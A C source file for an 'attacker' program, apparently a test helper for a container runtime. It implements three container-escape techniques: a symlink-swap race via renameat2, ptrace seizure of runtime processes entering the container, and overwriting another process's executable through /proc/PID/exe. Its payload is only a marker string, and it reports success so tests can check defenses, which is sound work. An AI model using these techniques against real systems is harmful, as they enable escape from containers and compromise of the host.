/*
 * What a hostile process in a container does, faster than a shell could: one mode for each kind of attack. Linked
 * statically; it runs until it is killed, or has said on standard output that it got through.
 *
 *   attacker swap A B         exchanges two names for ever: a folder and a symbolic link to somewhere else
 *   attacker look NAME        looks into every process of its pid namespace whose executable is not NAME (its own)
 *   attacker overwrite NAME   opens the executable of such a process and, once nobody runs from it, writes to it
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

static void say(const char *text) {
  if (write(1, text, strlen(text)) < 0) exit(9);
}

static void swap(const char *a, const char *b) {
  say("swapping\n");
  for (;;)
    if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) {
      perror("renameat2");
      exit(1);
    }
}

/* The pids that may be in use next: all up to a little more than the highest seen. */
static int highest(void) {
  char text[200] = "";
  int fd = open("/proc/loadavg", O_RDONLY), last = 0;
  if (read(fd, text, sizeof text - 1) > 0) last = atoi(strrchr(text, ' ') + 1);
  close(fd);
  return last;
}

/* Whether the process has another executable than this one, and lets this one see it. */
static int foreign(int pid, const char *own) {
  char path[64], exe[300];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t length = readlink(path, exe, sizeof exe - 1);
  if (length <= 0) return 0;
  exe[length] = 0;
  return strcmp(exe, own) != 0 && strcmp(exe, "/attacker") != 0;
}

static void look(const char *own) {
  say("looking\n");
  for (;;) {
    int last = highest();
    for (int pid = last > 3 ? last - 3 : 1; pid <= last + 2; pid++) {
      char path[64];
      struct stat root, mine;
      if (!foreign(pid, own)) continue;
      /* While it has not executed the container's program, this is code of the runtime. */
      snprintf(path, sizeof path, "/proc/%d/root", pid);
      int other = stat(path, &root) == 0 && stat("/", &mine) == 0 && root.st_ino != mine.st_ino;
      say(ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 ? "SEIZED" : "SAW");
      say(other ? " outside\n" : " inside\n");
      for (;;) pause(); /* as pid 1 it would take all others with it */
    }
  }
}

static void overwrite(const char *own) {
  say("waiting\n");
  for (;;) {
    int last = highest();
    for (int pid = last > 3 ? last - 3 : 1; pid <= last + 2; pid++) {
      char path[64];
      if (!foreign(pid, own)) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int held = open(path, O_RDONLY);
      if (held < 0 || !foreign(pid, own)) {
        close(held);
        continue;
      }
      say("held\n");
      snprintf(path, sizeof path, "/proc/self/fd/%d", held);
      for (;;) {
        int writable = open(path, O_WRONLY | O_APPEND);
        if (writable >= 0 && write(writable, "overwritten", 11) == 11) {
          say("OVERWRITTEN\n");
          for (;;) pause();
        }
        if (errno != ETXTBSY) {
          say(errno == EROFS ? "read-only\n" : "refused\n");
          for (;;) pause();
        }
        usleep(100);
      }
    }
  }
}

int main(int argc, char **argv) {
  if (argc == 4 && !strcmp(argv[1], "swap")) swap(argv[2], argv[3]);
  if (argc == 3 && !strcmp(argv[1], "look")) look(argv[2]);
  if (argc == 3 && !strcmp(argv[1], "overwrite")) overwrite(argv[2]);
  fprintf(stderr, "attacker: see the source\n");
  return 2;
}
